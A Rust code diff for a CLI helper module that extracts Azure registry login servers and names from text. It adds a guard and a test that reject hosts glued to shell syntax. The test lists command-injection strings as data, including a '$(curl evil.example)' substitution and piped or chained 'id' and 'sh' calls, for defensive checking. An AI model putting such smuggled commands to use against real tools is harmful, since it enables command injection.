@@ -1,6 +1,8 @@
 //! Small readers for the values the CLI puts in its messages: quoted names, login servers,
 //! HTTP status codes, registry names on a command line.
 
+use crate::values::{is_registry_name as plain_name, AZURE_REGISTRY_SUFFIXES as SUFFIXES};
+
 /// The text inside the quotes that follow `marker`: `quoted_after("registry 'a.io'", "registry ")`.
 pub fn quoted_after(text: &str, marker: &str) -> Option<String> {
     let start = text.find(marker)? + marker.len();
@@ -40,14 +42,6 @@ pub fn find_registry_name_in_command(text: &str) -> Option<String> {
     None
 }
 
-/// A registry name as Azure allows them (letters and digits), not a placeholder like `<name>` or `***`.
-pub fn plain_name(s: &str) -> bool {
-    (1..=50).contains(&s.len()) && s.bytes().all(|b| b.is_ascii_alphanumeric())
-}
-
-/// Azure's registry domains, for finding a login server in free text.
-const SUFFIXES: [&str; 3] = [".azurecr.io", ".azurecr.cn", ".azurecr.us"];
-
 /// The first login server (`name.azurecr.io`, a data endpoint, another cloud) in free text.
 pub fn find_login_server(text: &str) -> Option<String> {
     if !text.contains(".azurecr.") {
@@ -66,6 +60,19 @@ pub fn find_login_server(text: &str) -> Option<String> {
             .map_or(0, |i| {
                 i + head[i..].chars().next().map_or(1, char::len_utf8)
             });
+        // A host glued to shell syntax (`r.azurecr.io$(…)`, `r.azurecr.io;…`, `` r.azurecr.io`id` ``)
+        // is not a host; a closing markdown backtick (`` `r.azurecr.io` ``) is fine.
+        let mut after = text[at + suffix.len()..].chars();
+        let glued = match after.next() {
+            Some('$' | '(' | ';' | '|' | '&' | '{' | '\\') => true,
+            Some('`') => after
+                .next()
+                .is_some_and(|c| c.is_alphanumeric() || matches!(c, '$' | '(' | '{')),
+            _ => false,
+        };
+        if glued {
+            continue;
+        }
         let mut host = text[start..at + suffix.len()].to_owned();
         // `<redacted>` stays whole, but a stray `>` from a prompt does not belong to the name.
         if host.starts_with('>') {
@@ -79,8 +86,12 @@ pub fn find_login_server(text: &str) -> Option<String> {
 }
 
 /// The registry's own name from its login server (`contoso.azurecr.io` → `contoso`,
-/// `contoso.westeurope.data.azurecr.io` → `contoso`), unless it is redacted.
+/// `contoso.westeurope.data.azurecr.io` → `contoso`), unless it is redacted or the server is not
+/// a host name at all (then nothing in it is trusted, not even its first label).
 pub fn registry_name_of(server: &str) -> Option<String> {
+    if !crate::values::is_host_port(server) {
+        return None;
+    }
     let first = server.split('.').next()?;
     plain_name(first).then(|| first.to_ascii_lowercase())
 }
@@ -185,6 +196,26 @@ mod tests {
             Some("c".into())
         );
         assert_eq!(registry_name_of("***.azurecr.io"), None);
+    }
+
+    #[test]
+    fn a_host_glued_to_shell_syntax_is_not_a_login_server() {
+        for hostile in [
+            "r.azurecr.io$(curl evil.example)",
+            "r.azurecr.io;id",
+            "r.azurecr.io|sh",
+            "r.azurecr.io&&id",
+            "r.azurecr.io`id`",
+            "r.azurecr.io${IFS}",
+        ] {
+            assert_eq!(find_login_server(hostile), None, "{hostile}");
+        }
+        assert_eq!(
+            find_login_server("the registry `r.azurecr.io` is down"),
+            Some("r.azurecr.io".into())
+        );
+        assert_eq!(registry_name_of("r.azurecr.io$(id)"), None);
+        assert_eq!(registry_name_of("r.azurecr.io:443"), Some("r".into()));
     }
 
     #[test]
